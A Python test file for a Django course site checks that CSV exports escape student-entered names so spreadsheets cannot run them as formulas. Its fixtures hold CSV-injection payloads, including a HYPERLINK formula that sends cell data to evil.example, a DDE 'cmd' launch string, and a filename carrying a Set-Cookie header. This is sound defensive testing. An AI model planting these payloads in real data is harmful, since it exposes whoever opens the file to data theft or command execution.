"""Every CSV export, fed names chosen by students, opens in a spreadsheet as plain text.

A student picks their display name, username, email and group name; an instructor
who opens the gradebook or a report in Excel must not run any of them as a formula
(CSV injection, OWASP). All exports go through ``coursesite.csvexport``; the last
test keeps it that way.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.http import HttpResponse
from django.urls import reverse

from accounts.tests.factories import UserFactory
from coursesite.csvexport import FORMULA_STARTS, csv_cell, safe_filename
from grading.tests.factories import enroll, grading_world
from lessons.tests.factories import LessonFactory, ModuleFactory

pytestmark = pytest.mark.django_db

# What a student can type where an export shows it. Each would run in a spreadsheet.
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_USERNAME = "@SUM(1+1)"
HOSTILE_EMAIL = "-2+3@example.org"
HOSTILE_GROUP = "+cmd|' /C calc'!A0"
HOSTILE_OUTSIDER = "\t=1+2"
HOSTILE_FULLWIDTH = "\uff1d1+2"
HOSTILE_SEPARATORS = 'Team";=1+2,=3+4'
HOSTILE_SPACES = "  =1+2"
HOSTILE_TITLE = "=IMPORTXML(A1)"


@pytest.fixture
def hostile(alice, bob, grace):
    """The grading world, with formulas wherever a student or instructor can type text."""
    world = grading_world(alice=alice, bob=bob, grace=grace)
    bob.display_name, bob.username, bob.email = HOSTILE_NAME, HOSTILE_USERNAME, HOSTILE_EMAIL
    bob.save()
    world.dave.display_name = HOSTILE_SEPARATORS
    world.dave.save()
    world.group.name = HOSTILE_GROUP
    world.group.save()
    world.assignment.title = HOSTILE_TITLE
    world.assignment.save()
    # Students without a group get rows of their own in the status export.
    enroll(UserFactory(username="loner", display_name=HOSTILE_OUTSIDER), world.course)
    enroll(UserFactory(username="wide", display_name=HOSTILE_FULLWIDTH), world.course)
    enroll(UserFactory(username="spacey", display_name=HOSTILE_SPACES), world.course)
    module = ModuleFactory(course=world.course, order=1, title=HOSTILE_TITLE)
    LessonFactory(module=module, slug="first")
    return world


def every_export(client, world) -> dict[str, object]:
    """Download each CSV export of the site as the course's instructor (or a superuser)."""
    exports = {
        "gradebook": client.get(
            reverse("grading:gradebook_csv", kwargs={"slug": world.course.slug})
        ),
        "progress": client.get(
            reverse("admin:lessons_course_progress_csv", kwargs={"pk": world.course.pk})
        ),
        "submission status": client.post(
            reverse("admin:projects_projectassignment_changelist"),
            {"action": "export_status_csv", "_selected_action": [world.assignment.pk]},
        ),
    }
    return {name: read_once(response) for name, response in exports.items()}


def read_once(response):
    """Return RESPONSE with its body read, so a streamed export can be read again."""
    if not response.streaming:
        return response
    settled = HttpResponse(response.getvalue(), status=response.status_code)
    for header, value in response.items():
        settled[header] = value
    return settled


def read_csv(response) -> list[list[str]]:
    body = response.getvalue().decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def runs_as_formula(cell: str) -> bool:
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell):
        return False  # a plain number: a spreadsheet reads it as that number
    return cell[:1] in FORMULA_STARTS or cell.lstrip(" \u00a0\u3000")[:1] in FORMULA_STARTS


def test_no_export_lets_a_student_name_run_as_a_formula(client, alice, hostile):
    client.force_login(alice)
    exports = every_export(client, hostile)
    for name, response in exports.items():
        assert response.status_code == 200, name
        assert response["Content-Type"] == "text/csv; charset=utf-8", name
        assert response["Content-Disposition"].startswith("attachment; filename="), name
        rows = read_csv(response)
        assert len(rows) > 1, name
        cells = [cell for row in rows for cell in row]
        formulas = [cell for cell in cells if runs_as_formula(cell)]
        assert formulas == [], (name, formulas)
        # Each export did show the hostile values, as text a reader still recognises.
        assert f"'{HOSTILE_NAME}" in cells or f"'{HOSTILE_SEPARATORS}" in cells, name
    gradebook = [c for row in read_csv(exports["gradebook"]) for c in row]
    assert {f"'{HOSTILE_NAME}", f"'{HOSTILE_USERNAME}", f"'{HOSTILE_EMAIL}"} <= set(gradebook)
    assert f"'{HOSTILE_TITLE} (not released, %)" in gradebook  # the header row is escaped too
    status = [c for row in read_csv(exports["submission status"]) for c in row]
    assert f"'{HOSTILE_GROUP}" in status and f"'{HOSTILE_OUTSIDER}" in status
    assert f"'{HOSTILE_FULLWIDTH}" in status and f"'{HOSTILE_SPACES}" in status
    progress = [c for row in read_csv(exports["progress"]) for c in row]
    assert f"'{HOSTILE_EMAIL}" in progress and "1. =IMPORTXML(A1) (%)" in progress


def test_every_cell_is_quoted_so_separators_cannot_start_a_new_cell(client, alice, hostile):
    client.force_login(alice)
    raw = every_export(client, hostile)["gradebook"].getvalue().decode().removeprefix("\ufeff")
    line = next(line for line in raw.splitlines() if "Team" in line)
    # One cell, in quotes, its own quote doubled: the "=1+2" parts never start a cell.
    assert line.startswith('"Team"";=1+2,=3+4","dave",')
    rows = list(csv.reader(io.StringIO(raw)))
    assert {len(row) for row in rows} == {len(rows[0])}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-2, -2),  # numbers stay numbers, so a spreadsheet can still sum them
        (Decimal("-2.50"), Decimal("-2.50")),
        (-0.5, -0.5),
        ("-2.50", "-2.50"),  # how the gradebook writes marks
        ("87", "87"),
        ("-2.50+1", "'-2.50+1"),
        ("-", "'-"),
        ("=1+2", "'=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("\n=1+2", "'\n=1+2"),
        ("\0", "'\0"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (True, "True"),
    ],
)
def test_a_cell_is_escaped_only_when_a_spreadsheet_would_run_it(value, cell):
    assert csv_cell(value) == cell


def test_the_filename_of_a_download_cannot_break_the_header():
    assert safe_filename('gradebook-x";\r\nSet-Cookie: a=b.csv') == "gradebook-x-Set-Cookie-a-b.csv"
    assert safe_filename("..") == "export.csv"
    assert safe_filename("progress-é.csv") == "progress.csv"


def test_every_csv_export_uses_the_one_writer():
    """A new export written by hand would skip the escaping: only csvexport writes CSV."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "staticfiles", "var"} or "tests" in relative.parts:
            continue
        if relative == Path("coursesite/csvexport.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if "text/csv" in text or "csv.writer" in text or "csv.DictWriter" in text:
            offenders.append(str(relative))
    assert offenders == []
